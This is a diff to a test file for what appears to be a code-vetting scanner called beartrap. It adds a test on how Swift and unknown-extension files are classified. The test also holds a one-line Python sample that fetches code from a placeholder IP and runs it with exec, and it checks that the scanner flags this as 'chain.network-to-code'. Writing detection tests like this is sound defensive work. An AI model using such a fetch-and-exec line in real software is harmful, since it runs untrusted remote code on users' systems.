@@ -10,6 +10,7 @@ from beartrap.model.finding import Severity
 from beartrap.model.question import Question
 from beartrap.vet.behaviour import Behaviour, When
 from beartrap.vet.kinds import Kind
+from beartrap.vet.sniff import kind_of
 from beartrap.vet.source.languages import javascript
 from beartrap.vet.source.windows import windows
 
@@ -88,6 +89,19 @@ def test_prose_with_examples_that_act_holds_nothing_up_and_a_script_that_does_no
     (prose,) = (one for one in look("README.md", text, kind=Kind.PYTHON) if isinstance(one, Gap))
     (script,) = (one for one in look("tool.py", text) if isinstance(one, Gap))
     assert not prose.questions and Question.NEXT in script.questions
+
+
+def test_another_language_that_looks_like_python_holds_nothing_up():
+    text = (
+        "// © its authors\nimport Foundation\nlet found = try await session.exec(request)\nfunc run() { exec(found) }\n"
+    )
+    assert kind_of("Loader.swift", text.encode()) is Kind.PYTHON
+    (swift,) = (one for one in look("Loader.swift", text, kind=Kind.PYTHON) if isinstance(one, Gap))
+    (odd,) = (one for one in look("Loader.bin", text, kind=Kind.PYTHON) if isinstance(one, Gap))
+    assert not swift.questions and Question.NEXT in odd.questions
+    code = "import os\nimport urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/a').read())\n"
+    found = (one for one in look("Loader.swift", code, kind=Kind.PYTHON) if isinstance(one, Behaviour))
+    assert "chain.network-to-code" in {one.id for one in found}
 
 
 @pytest.mark.parametrize(
